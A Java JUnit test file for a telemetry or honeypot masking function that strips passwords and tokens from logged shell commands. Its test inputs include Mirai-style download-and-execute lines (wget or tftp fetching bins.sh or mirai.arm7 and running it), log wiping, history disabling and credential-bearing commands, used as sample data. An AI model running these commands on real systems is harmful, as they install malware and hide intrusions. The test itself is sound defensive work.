package io.velvetastro.decisions.telemetry;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class CommandsTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "sshpass -p geheim ssh root@1.2.3.4",
                "sshpass -pgeheim ssh root@1.2.3.4",
                "mysql -uroot -pgeheim shop",
                "mysql --password=geheim",
                "mysqldump --password 'geheim' shop",
                "echo geheim | sudo -S id",
                "echo 'geheim'|sudo -S id",
                "printf \"geheim\\ngeheim\\n\" | passwd root",
                "curl -H 'Authorization: Bearer geheim' http://1.2.3.4/",
                "curl -H Authorization:geheim http://1.2.3.4/",
                "curl -u me:geheim http://1.2.3.4/",
                "curl -ume:geheim http://1.2.3.4/",
                "wget http://me:geheim@1.2.3.4/x.sh",
                "wget http://1.2.3.4/x.sh?key=geheim",
                "wget 'http://1.2.3.4/x.sh?key=geheim'",
                "curl https://api.telegram.org/bot1:geheim/sendMessage",
                "redis-cli -a geheim",
                "export TOKEN=geheim",
                "TOKEN=geheim ./x.sh",
                "TOKEN=\"geheim\" ./x.sh",
                "PGPASSWORD=geheim psql -h 1.2.3.4",
                "geheim",
                "sudo geheim",
                "cat <<< geheim",
                "cat <<EOF\ngeheim\nEOF",
                "a=$(geheim)",
                "`geheim`",
                "echo \\geheim",
                "echo ge\"heim\" geheim'",
                "openssl passwd -1 geheim",
                "useradd -p geheim ann",
                "git clone https://geheim@github.com/x/y",
                "awk '{print \"geheim\"}' /etc/passwd",
                "ssh -i=geheim 1.2.3.4",
                "kill geheim",
                "chmod geheim x.sh"
            })
    void noSecretIsLeft(String typed) {
        assertThat(Commands.masked(typed)).doesNotContain("geheim").contains(Commands.MASK);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "rm -rf /var/log/*",
                "uname -a",
                "cd /tmp || cd /var/run || cd /mnt; wget http://1.2.3.4/bins.sh; chmod 777 bins.sh; ./bins.sh",
                "cat /proc/cpuinfo | grep -c",
                "curl -O ftp://1.2.3.4/pub/mirai.arm7 && chmod +x mirai.arm7",
                "ping -c 4 1.2.3.4",
                "/bin/busybox > /dev/null 2>&1",
                "export HISTFILE=/dev/null",
                "nohup ./x86_64.sh &",
                "busybox tftp -g -r x.sh 1.2.3.4:69",
                "sleep 10",
                "ls -la ~/.ssh",
                "echo $HOME"
            })
    void whatIsNoSecretStaysAsItWasTyped(String typed) {
        assertThat(Commands.masked(typed)).isEqualTo(typed);
    }

    @ParameterizedTest
    @CsvSource({
        "echo root:geheim|chpasswd, echo …|chpasswd",
        "wget http://1.2.3.4/x.sh?key=geheim, wget http://1.2.3.4/x.sh?…",
        "mysql -uroot -pgeheim, mysql … …",
        "echo 1234 | sudo -S id, echo … | sudo -S …"
    })
    void whatIsMaskedLeavesItsPlace(String typed, String shown) {
        assertThat(Commands.masked(typed)).isEqualTo(shown);
    }

    @Test
    void aLongLineOfQuotesAndBackslashesHasAnEnd() {
        assertThat(Commands.masked("echo " + "\"\\".repeat(100_000))).isEqualTo("echo …");
    }
}
